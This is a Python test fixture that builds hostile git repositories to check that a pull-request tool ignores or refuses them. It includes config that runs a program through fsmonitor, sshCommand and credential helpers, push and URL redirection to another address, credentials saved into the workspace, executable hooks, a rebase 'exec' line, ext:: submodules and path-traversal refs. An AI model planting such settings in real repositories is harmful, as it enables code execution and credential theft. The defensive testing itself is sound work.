"""Hostile repositories, each of another kind, for `git.create_pr`: one line each where possible.

`{p}` is a program that leaves a mark, `{u}` another address, `{o}` the allowed host, `{h}` its folder, and `{r}` the
folder of the repository.
"""

import os
import shutil
from collections.abc import Callable

from tests.tools.forges.hosts import Trap
from tests.tools.git.building import Built

Change = Callable[[Built, Trap], object]
OUTSIDE = "../../../../../../../../../etc/hostname"
HOOKS = """
    applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg post-commit
    pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update
    reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman
    p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit post-index-change
"""


def filled(text: str, repository: Built, trap: Trap) -> str:
    places = {"p": trap.program, "u": trap.url, "o": trap.host.origin, "h": trap.host.folder, "r": repository.folder}
    for name, value in places.items():
        text = text.replace(f"{{{name}}}", str(value))
    return text


def settings(text: str) -> Change:
    return lambda repository, trap: repository.configure(filled(text, repository, trap))


def file(name: str, text: str | bytes) -> Change:
    def change(repository: Built, trap: Trap) -> None:
        content = text if isinstance(text, bytes) else filled(text, repository, trap)
        path = repository.folder / name
        path.unlink(missing_ok=True)
        repository.write(name, content)

    return change


def both(*changes: Change) -> Change:
    return lambda repository, trap: [change(repository, trap) for change in changes]


def whole_settings(change: Callable[[bytes], bytes]) -> Change:
    def rewrite(repository: Built, trap: Trap) -> None:
        settings(EVIL)(repository, trap)
        path = repository.folder / ".git/config"
        path.write_bytes(change(path.read_bytes()))

    return rewrite


def moved_out(name: str) -> Change:
    """Move a part of the repository out of the workspace, and link to it."""

    def change(repository: Built, trap: Trap) -> None:
        path, outside = repository.folder / name, trap.host.folder / "moved"
        if not path.exists():
            repository.git("pack-refs", "--all")
        shutil.move(path, outside)
        path.symlink_to(outside)

    return change


def link(name: str, target: str) -> Change:
    def change(repository: Built, trap: Trap) -> None:
        path = repository.folder / name
        path.unlink(missing_ok=True)
        path.symlink_to(filled(target, repository, trap))

    return change


def command(*words: str, input_: str = "") -> Change:
    return lambda repository, trap: repository.git(
        *(filled(word, repository, trap) for word in words), input_=input_.encode()
    )


def tree_with(mode: str, kind: str, name: str) -> Change:
    """Commit a tree with an entry that no working tree may have."""

    def change(repository: Built, trap: Trap) -> None:
        entry = repository.git(
            "rev-parse", "HEAD:a.txt" if kind == "blob" else "HEAD:docs" if kind == "tree" else "HEAD"
        )
        tree = repository.git("mktree", input_=f"{mode} {kind} {entry}\t{name}\n".encode())
        repository.git("update-ref", "refs/heads/fix", repository.git("commit-tree", tree, "-p", "HEAD", "-m", "evil"))

    return change


def every_hook(repository: Built, trap: Trap) -> None:
    for name in HOOKS.split():
        repository.write(f".git/hooks/{name}", trap.program.read_bytes()).chmod(0o755)


def names_of_packed_refs(repository: Built, trap: Trap) -> None:
    head = repository.head
    names = ("refs/heads/../../../stolen", "refs/heads/-x", "refs/heads/a b", "/etc/passwd", "refs/heads/.git/config")
    lines = "".join(f"{head} {name}\n" for name in names)
    repository.write(".git/packed-refs", f"# pack-refs with: peeled fully-peeled sorted \n{lines}^{head}\n")


def malformed_files_beside_a_pack(repository: Built, trap: Trap) -> None:
    repository.git("repack", "-a", "-d", "--quiet")
    pack = next((repository.folder / ".git/objects/pack").glob("*.pack"))
    for suffix in (".bitmap", ".rev", ".keep", ".promisor", ".mtimes"):
        pack.with_suffix(suffix).write_bytes(b"BITM\0\1\0\1" + b"\xff" * 64)
    repository.write(".git/objects/pack/multi-pack-index", b"MIDX\1\1\2\0" + b"\xff" * 64)
    repository.write(".git/objects/info/commit-graphs/commit-graph-chain", f"{OUTSIDE}\n{'1' * 40}\n")


def branch_that_is_a_blob(repository: Built, trap: Trap) -> None:
    repository.write(".git/refs/heads/fix", repository.git("rev-parse", "HEAD:a.txt") + "\n")


def linked_worktree(repository: Built, trap: Trap) -> None:
    """Make the repository a linked worktree of one outside, whose settings are hostile."""
    outside = trap.host.folder / "main"
    (outside / "worktrees").mkdir(parents=True)
    shutil.move(repository.folder / ".git", outside / "worktrees/r")
    repository.write(".git", f"gitdir: {os.path.relpath(outside, repository.folder)}/worktrees/r\n")
    (outside / "worktrees/r/gitdir").write_text(f"{repository.folder}/.git\n")


def git_folder_in_the_workspace(repository: Built, trap: Trap) -> None:
    """Lead to a `.git` beside the repository, with hostile settings of its own."""
    beside = repository.folder.parent / "beside"
    (repository.folder / ".git").rename(beside)
    with (beside / "config").open("a") as config:
        config.write(filled(EVIL, repository, trap))
    repository.write(".git", "gitdir: ../beside\n")


def endless_alternates(repository: Built, trap: Trap) -> None:
    lines = "".join(f"../objects/{'../objects/' * number}\n" for number in range(50))
    repository.write(".git/objects/info/alternates", lines + "/proc/self/root/etc\n")


EVIL = '[core]\nfsmonitor = {p}\nsshCommand = {p}\n[credential]\nhelper = !{p}\n[url "{u}/"]\ninsteadOf = {o}/\n'
CONTINUED = '[core] sshCommand = "\\\n{p}\\\n" ; x\n[url "{u}/"] insteadOf = {o}\\\n/'
REMOTES = b"".join(b'[remote "r%d"]\nurl = ext::evil\n' % number for number in range(5_000))
PUSH = """
[remote]
pushDefault = evil
[remote "evil"]
url = {u}/x
mirror = true
[branch "fix"]
remote = evil
pushRemote = evil
"""
TRANSFER = """
[http]
curloptResolve = 127.0.0.1:1:127.0.0.2
sslCert = {p}
sslKey = {p}
sslEngine = {p}
sslCAInfo = {r}/ca
delegation = always
emptyAuth = true
[core]
logAllRefUpdates = always
[init]
templateDir = {r}/template
[browser]
path = {p}
"""
FORMAT_1 = "[core]\nrepositoryformatversion = 1\n[extensions]\n"

# A pull request is made as if nothing were there.
WITHOUT_EFFECT: dict[str, Change] = {
    "include by the address of a remote": both(
        file("included", EVIL), settings('[includeIf "hasconfig:remote.*.url:{o}/**"]\npath = {r}/included')
    ),
    "include by the branch": both(file("included", EVIL), settings('[includeIf "onbranch:fix"]\npath = ../included')),
    "settings with CRLF": whole_settings(lambda text: text.replace(b"\n", b"\r\n")),
    "settings with a byte order mark": whole_settings(lambda text: b"\xef\xbb\xbf" + text),
    "settings in continued lines": settings(CONTINUED),
    "settings of 8 MB": whole_settings(lambda text: text + b"# " + b"x" * 2**23 + b"\n" + REMOTES),
    "empty prefix of every address": settings('[url "{u}/"]\ninsteadOf = ""\npushInsteadOf = http'),
    "another remote to push to": settings(PUSH),
    "credentials in a file of the workspace": settings(
        "[credential]\nhelper = store --file={r}/stolen\nuseHttpPath = true\nhelper = cache --socket={r}/s"
    ),
    "settings of the transfer": settings(TRANSFER),
    "working tree elsewhere": settings("[core]\nworktree = {h}\nbare = false"),
    "every hook": every_hook,
    "names of packed refs": names_of_packed_refs,
    "malformed files beside a pack": malformed_files_beside_a_pack,
    "endless alternates": endless_alternates,
    "git folder in the workspace": git_folder_in_the_workspace,
    "rebase under way": both(
        file(".git/MERGE_HEAD", "1" * 40), file(".git/rebase-merge/git-rebase-todo", "exec {p}\n")
    ),
    "submodule with a program": both(
        file(".gitmodules", '[submodule "x"]\npath = x\nurl = ext::{p}\nupdate = !{p}\n'),
        tree_with("160000", "commit", "x"),
        settings('[submodule "x"]\nurl = ext::{p}\nactive = true'),
    ),
    "entry named .git": tree_with("040000", "tree", ".git"),
    "entry that leads up": tree_with("040000", "tree", ".."),
}

# There is nothing that could be offered, or it leads elsewhere: a sentence says so.
REFUSED: dict[str, Change] = {
    "include of an environment": settings("[include]\npath = /proc/self/environ"),
    "settings with NUL": whole_settings(lambda text: text.replace(b"insteadOf", b"instead\0Of")),
    "settings that are a link": moved_out(".git/config"),
    "malformed index": file(".git/index", b"DIRC" + b"\0\0\0\2" + b"\xff" * 4_096),
    "index that is a link": moved_out(".git/index"),
    "two origins": settings('[remote "origin"]\nurl = {u}/acme/site.git'),
    "origin with another's name": settings('[remote "origin"]\nurl = http://{o}:x@{u}/acme/site'),
    "origin in an old file": both(
        command("config", "--unset-all", "remote.origin.url"), file(".git/remotes/origin", "URL: {u}/acme/site\n")
    ),
    "origin as a file": settings('[remote "origin"]\nurl = file://{h}/acme/site.git'),
    "linked worktree outside": linked_worktree,
    "branches that are a link": moved_out(".git/refs/heads"),
    "packed branches that are a link": both(command("pack-refs", "--all"), moved_out(".git/packed-refs")),
    "branch of a file outside": file(".git/refs/heads/fix", f"ref: {OUTSIDE}\n"),
    "HEAD that is a link": link(".git/HEAD", "/etc/hostname"),
    "branch that is a blob": branch_that_is_a_blob,
    "names of SHA-256": settings(f"{FORMAT_1}objectFormat = sha256"),
    "unknown extension": settings(f"{FORMAT_1}evil = {{p}}"),
    "format of the future": settings("[core]\nrepositoryformatversion = 99"),
    "branches in another store": settings(f"{FORMAT_1}refStorage = reftable"),
}
HOSTILE = {**WITHOUT_EFFECT, **REFUSED}

TAKES_EFFECT = {
    "include by the address of a remote",
    "include by the branch",
    "settings with CRLF",
    "settings with a byte order mark",
    "settings in continued lines",
    "settings of 8 MB",
    "empty prefix of every address",
    "another remote to push to",
    "every hook",
    "git folder in the workspace",
    "origin in an old file",
}
"""The names of repositories that start the program or reach the other address if git itself works in them."""
